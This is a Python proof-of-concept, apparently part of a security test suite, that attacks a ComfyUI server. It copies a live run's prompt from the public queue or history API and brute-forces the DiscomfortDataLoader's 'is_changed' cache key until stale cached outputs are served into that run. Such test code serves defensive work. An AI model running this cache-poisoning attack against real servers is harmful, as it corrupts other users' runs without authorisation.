"""An attacker that re-queues a live run's prompt with its loader's fingerprint set to an older one.

    python _attacker_is_changed.py URL RUN_ID  ->  one JSON line on stdout

It knows only what ComfyUI's own API shows anyone: the prompt naming RUN_ID in /queue or
/history. ComfyUI takes a node's ``is_changed``, when a prompt sends one, as the node's cache
key; a loader's own is ``[version]`` of its key, and versions are small integers. So it queues
copies whose ``DiscomfortDataLoader`` carries ``[1]``, ``[2]``, ... until ComfyUI reports the
loader served from its cache (``execution_cached``, in the attacker's own history): with a cache
that keeps older entries (``--cache-lru``), the outputs computed from an older value, which the
port (it always runs) writes into the run. Prints the guesses, the hit and that prompt's errors.
"""

from __future__ import annotations

import copy
import json
import sys
import time
import uuid

import requests

from _attacker_digest import find_prompt  # the run's prompt, as anyone reads it from /queue or /history

T = 10  # seconds per request
MAX_GUESS = 64


def queue_and_wait(url: str, prompt: dict) -> tuple[list, list]:
    """The prompt's errors (exception types) and the nodes ComfyUI served from its cache."""
    r = requests.post(f"{url}/prompt", json={"prompt": prompt, "client_id": uuid.uuid4().hex}, timeout=T)
    if r.status_code != 200:
        return [f"HTTP {r.status_code}: {r.text[:300]}"], []
    pid = r.json()["prompt_id"]
    h: dict = {}
    for _ in range(3000):
        h = requests.get(f"{url}/history/{pid}", timeout=T).json().get(pid) or {}
        if h.get("status", {}).get("completed") is not None:
            break
        time.sleep(0.02)  # polling ComfyUI's history, as any client of its API does
    msgs = h.get("status", {}).get("messages", [])
    errors = [m[1].get("exception_type") for m in msgs if m[0] == "execution_error"]
    cached = [n for m in msgs if m[0] == "execution_cached" for n in m[1].get("nodes", [])]
    return errors, cached


def main(url: str, run_id: str) -> None:
    prompt = find_prompt(url, run_id)
    loaders = [nid for nid, node in prompt.items() if node.get("class_type") == "DiscomfortDataLoader"]
    tried = []
    for guess in range(1, MAX_GUESS + 1):
        forged = copy.deepcopy(prompt)
        for nid in loaders:
            forged[nid]["is_changed"] = [guess]
        errors, cached = queue_and_wait(url, forged)
        tried.append(guess)
        if any(nid in cached for nid in loaders):
            print(json.dumps({"hit": guess, "tried": len(tried), "errors": errors, "cached": cached}), flush=True)
            return
    print(json.dumps({"hit": None, "tried": len(tried)}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:3])
